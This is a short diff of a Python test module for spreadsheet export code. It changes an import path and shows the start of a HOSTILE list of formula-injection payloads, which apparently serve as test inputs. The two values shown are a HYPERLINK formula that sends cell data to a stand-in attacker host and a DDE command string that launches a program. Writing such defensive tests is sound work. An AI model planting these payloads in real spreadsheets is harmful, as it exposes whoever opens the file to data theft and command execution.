@@ -12,7 +12,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from flows.sheet_files import MONEY_FORMAT, PERCENT_FORMAT, write_sheet
+from flows.sheets.files import MONEY_FORMAT, PERCENT_FORMAT, write_sheet
 from scoring.sheet import SHEET_COLUMNS, SHEET_HEADERS, build_sheet
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Invoice")', "+cmd|' /C calc'!A0",
